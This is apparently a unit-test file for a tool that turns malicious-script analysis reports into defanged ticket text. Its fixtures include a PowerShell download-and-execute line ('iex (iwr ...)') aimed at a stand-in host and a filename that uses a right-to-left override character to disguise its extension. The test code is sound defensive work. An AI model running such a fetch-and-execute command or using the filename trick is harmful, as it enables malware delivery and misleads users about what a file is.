import { scriptAsText, type ScriptReport } from './script-text.js';

const report: ScriptReport = {
  sha256: 'a'.repeat(64),
  fileName: 'x.ps1',
  verdict: 'Malicious',
  card: { title: 'Malicious PowerShell script', statements: [{ text: 'It names cdn[.]e[.]test.' }] },
  indicators: [{ type: 'domain', value: 'cdn.e.test', defanged: 'cdn[.]e[.]test', layer: 1, line: 2 }],
  techniques: [{ id: 'T1105', name: 'Ingress Tool Transfer' }],
  notDecoded: [],
};

describe('scriptAsText', () => {
  it('is ready for a ticket: nothing in it opens', () => {
    expect(scriptAsText(report, 'defanged')).toBe(
      ['Malicious PowerShell script', 'Verdict: Malicious', 'File: x.ps1', `SHA-256: ${'a'.repeat(64)}`, '', 'It names cdn[.]e[.]test.', '', 'Indicators', 'domain: cdn[.]e[.]test (layer 1, line 2)', '', 'ATT&CK', 'T1105 Ingress Tool Transfer'].join('\n'),
    );
  });

  it('defangs what stays closed too', () => {
    const text = scriptAsText({ ...report, notDecoded: [{ why: 'It is fetched', detail: "iex (iwr 'http://other.test/x')", layer: 0, line: 3 }] }, 'defanged');
    expect(text).toContain("It is fetched: iex (iwr 'hxxp://other[.]test/x') (layer 0, line 3)");
  });

  it('hides nothing that a script hides', () => {
    expect(scriptAsText({ ...report, fileName: 'x\u202Efdp.ps1' }, 'defanged')).toContain('File: x⟨U+202E⟩fdp.ps1');
  });

  it('has the real addresses when asked', () => {
    const text = scriptAsText(report, 'real');
    expect(text).toContain('It names cdn.e.test.');
    expect(text).toContain('domain: cdn.e.test (layer 1, line 2)');
  });
});
